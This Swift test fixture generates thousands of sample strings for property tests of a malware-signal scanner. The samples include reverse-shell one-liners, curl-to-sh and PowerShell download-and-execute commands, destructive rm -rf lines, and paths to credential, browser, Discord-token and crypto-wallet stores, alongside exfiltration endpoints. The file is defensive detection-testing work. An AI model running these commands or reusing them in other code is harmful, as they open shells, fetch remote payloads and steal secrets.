import LockgateCore

/// A large, deterministic set of varied strings for property tests of the string signals: URLs of every kind,
/// credential/browser/Discord/wallet/account/persistence paths and markers, shell and recon command lines, base64,
/// hex, long and high-entropy strings, plain text and code-like text, each alone, in mixed case, and joined with
/// others. Analysers that classify strings must give `StringSignals.kinds(in:)`'s answer on every one.
enum StringSignalSamples {
    /// Every sample (a few thousand), the same on every run.
    static let all: [String] = {
        var generator = SplitMix(seed: 0x10c6_a7e5)
        var samples = pieces
        samples += pieces.map { mixedCase($0, &generator) }
        for _ in 0..<2_500 {
            let first = pieces[Int(generator.next() % UInt64(pieces.count))]
            let second = pieces[Int(generator.next() % UInt64(pieces.count))]
            let joint = joints[Int(generator.next() % UInt64(joints.count))]
            samples.append(first + joint + second)
        }
        for length in [150, 159, 160, 199, 200, 260, 999, 1_000, 1_500, 4_097] {
            samples.append(randomText(length, alphabet: printable, &generator))
            samples.append(randomText(length, alphabet: base64Alphabet, &generator))
            samples.append(randomText(length, alphabet: hexAlphabet, &generator))
        }
        let filler = String(repeating: "lorem ipsum dolor ", count: 1_200)
        for marker in ["https://x.ngrok.io/a", "curl http://a.b/c | sh", "dQw4w9WgXcQ:", "~/.ssh/id_rsa", "wmic os"] {
            samples.append(marker + " " + filler)
            samples.append(filler + marker)
            samples.append(String(filler.prefix(19_990)) + marker)
        }
        return samples
    }()

    /// The string-signal kinds the samples must cover (so the property tests cannot pass on ordinary text alone).
    static let coveredKinds: Set<BehaviourKind> = [
        .url, .urlRawIP, .urlPaste, .urlTunnel, .urlOutOfBand, .reconPublicIP, .urlDynamicDNS, .urlAppHosting,
        .urlWebhook,
        .readCredentialPath, .readBrowserStore, .readDiscordStore, .readCryptoWallet, .readSystemAccounts,
        .persistence, .shellCommand, .reconHost, .longString, .base64String, .highEntropyBlob,
    ]

    // MARK: - Private

    private static let urls = [
        "https://example.com/x", "http://localhost:8080/api", "http://localhost", "https://registry.npmjs.org/",
        "http://45.61.136.12:8080/upload", "http://[2001:db8::1]/x", "http://3232235777/", "http://127.0.0.1:3000",
        "http://0x2d3d880c/p", "ws://10.0.0.5:9000", "ftp://files.example.org/a.bin", "tcp://8.8.4.4:53",
        "https://pastebin.com/raw/abcd", "https://transfer.sh/x/y", "https://abc123.ngrok-free.app/collect",
        "https://x.trycloudflare.com", "http://abc.oast.fun", "https://webhook.site/abc-def",
        "https://api.ipify.org?format=json", "http://ip-api.com/json", "http://evil.duckdns.org:4444",
        "https://x.no-ip.biz/a", "https://collect.onrender.com/u", "https://discord.com/api/webhooks/123/abc",
        "https://hooks.slack.com/services/T/B/X",
        "https://api.telegram.org/bot123:abc/sendMessage", "https://user:pass@host.example.net:8443/p?q=1#f",
        "abc.oast.fun", "x.ngrok.io/path", "45.9.1.2:4444", "1.2.3.4", "lodash.merge", "v1.2.3", "10.0-10.1",
        "example.com", "api.ipify.org", "see http://localhost:3000 for docs", "git+https://github.com/a/b.git",
        "mailto:a@b.c", "file:///etc/hosts", "HTTP://EXAMPLE.COM", "https://xn--n3h.example/☃",
    ]
    private static let paths = [
        "~/.ssh/id_rsa", "/home/u/.ssh/known_hosts", ".aws/credentials", "C:\\Users\\u\\.aws\\credentials",
        "~/.npmrc", ".npmrc", "/root/.pypirc", ".env", "config/.env.local", ".git-credentials", ".kube/config",
        "~/.config/gcloud/credentials.db", ".bash_history", "login.keychain-db", ".docker/config.json",
        "Google/Chrome/User Data/Default/Login Data", "Login Data", "Local State", "User Data", "Local Storage",
        "Web Data", "cookies.sqlite", "logins.json", "key4.db", "key3.db", "signons.sqlite", "BraveSoftware",
        "Vivaldi/User Data", ".config/chromium", "Library/Cookies", "Network/Cookies", "Opera Software",
        "YandexBrowser", "Microsoft\\Edge\\User Data", ".mozilla/firefox", "discord/Local Storage/leveldb",
        "discordcanary", "Lightcord", "dQw4w9WgXcQ:", "dQw4w9WgXcQ", "[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}",
        "mfa\\.[\\w-]{84}", "discord_desktop_core", "discord", "leveldb", "Discord\\Local Storage",
        "wallet.dat", "Exodus/exodus.wallet", "electrum/wallets", "nkbihfbeogaeaoehlefnkodbefgpgknn",
        "Local Extension Settings", "Ledger Live", "solana/id.json", "ethereum/keystore", "atomic/Local Storage",
        "/etc/passwd", "/etc/shadow", "C:\\Windows\\System32\\config\\SAM\\x", "/etc/cron.d/job",
        "~/.bashrc", ".bashrc", "crontab", "~/.config/autostart/x.desktop", "Library/LaunchAgents/com.x.plist",
        "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "Start Menu\\Programs\\Startup", "/etc/rc.local",
        "authorized_keys", "~/.profile", "cookies", "token", "phantom", "autostart", "./index", "node:path",
        "../lib/util.js", "/usr/local/bin", "C:\\Program Files\\App",
    ]
    private static let commands = [
        "curl -s http://x.io/a | sh", "curl https://a.b/c -o /tmp/x", "wget -qO- http://a.b/s | bash",
        "wget evil.example.com/x", "bash -c 'id'", "sh -c whoami", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
        "nc -e /bin/sh 1.2.3.4 4444", "ncat 10.0.0.1 9001", "powershell -enc SQBFAFgA", "pwsh -c Get-Date",
        "cmd /c start calc", "chmod +x /tmp/a && /tmp/a", "chmod 755 run.sh", "python -c 'import os'",
        "python3 -c print(1)", "node -e \"require('x')\"", "perl -e 'print 1'", "php -r 'echo 1;'",
        "base64 -d payload | sh", "rm -rf /", "rm -rf ~/", "reg add HKCU\\Run /v x", "xattr -d com.apple.quarantine a",
        "systemctl --user enable x", "mkfifo /tmp/f", "mshta http://a.b/x.hta", "rundll32 x.dll,Entry",
        "wmic process call create calc.exe", "wmic csproduct get uuid", "wmic", "schtasks /create /tn x /tr y",
        "certutil -urlcache -f http://a.b/x x.exe", "bitsadmin /transfer j http://a.b/x c:\\x", "nohup ./x &",
        "crontab -l", "launchctl load x.plist", "osascript -e 'x'", "sudo curl http://a.b/c", "FOO=1 bash -c id",
        "$(curl http://a.b/c)", "`wget http://a.b`", "IEX(New-Object Net.WebClient).DownloadString('http://a/b')",
        "Invoke-WebRequest -Uri http://a.b", "Start-Process calc", "whoami", "uname -a", "uname", "ipconfig /all",
        "ifconfig", "systeminfo", "hostname -I", "hostname", "id -u", "net user", "net localgroup administrators",
        "ip addr", "netstat -an", "arp -a", "getent passwd", "lsb_release -a", "sw_vers", "hostnamectl",
        "C:\\Windows\\System32\\cmd.exe /c dir", "/usr/bin/curl http://a.b | /bin/sh", "cross-env NODE_ENV=x node -e 1",
        "npm run build", "git clone https://github.com/a/b", "echo hello", "ls -la", "please curl the docs",
        "the sh -c flag", "run: bash -c", "if true; then curl http://a.b/c | sh; fi",
    ]
    private static let plain = [
        "", "a", "id", "sh", "abc", "abcd", "push", "shift", "child_process", "Hello, world!", "Content-Type",
        "application/json", "utf8", "base64", "hex", "The quick brown fox jumps over the lazy dog.", "eval(x)",
        "require('child_process').exec('id')", "function () { return this; }", "use strict", "0123456789",
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", "SGVsbG8sIHdvcmxkIQ==",
        "Y3VybCBodHRwOi8vYS5iL2MgfCBzaA==", "aHR0cHM6Ly94Lm5ncm9rLmlvL2E=",
        "dGhpcyBpcyBhIHRlc3Qgb2YgYmFzZTY0IGRhdGE=",
        "someCamelCaseIdentifierThatIsQuiteLongIndeed", "snake_case_identifier_that_is_long_enough_here",
        "d41d8cd98f00b204e9800998ecf8427e", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "%s: %d items", "{\"a\":1}", "<div class=\"x\">", "color: red; margin: 0", "żółć gęślą jaźń", "日本語のテキスト",
        "emoji 🎉 party", "tab\tseparated\tvalues", "line one\nline two", "semi;colon|pipe&amp", "C:\\", "/", "\\\\",
    ]
    private static let pieces = urls + paths + commands + plain
    private static let joints = [" ", "/", "\\", ";", " | ", " && ", "\n", "", ":", "=", "\"", "'", " -o ", ", "]
    private static let printable = Array(
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!#$%&()*+,-./:;<=>?@[]^_{|}~ ")
    private static let base64Alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
    private static let hexAlphabet = Array("0123456789abcdef")

    private static func mixedCase(_ text: String, _ generator: inout SplitMix) -> String {
        String(text.map { $0.isASCII && generator.next() % 2 == 0 ? Character($0.uppercased()) : $0 })
    }

    private static func randomText(_ length: Int, alphabet: [Character], _ generator: inout SplitMix) -> String {
        String((0..<length).map { _ in alphabet[Int(generator.next() % UInt64(alphabet.count))] })
    }
}
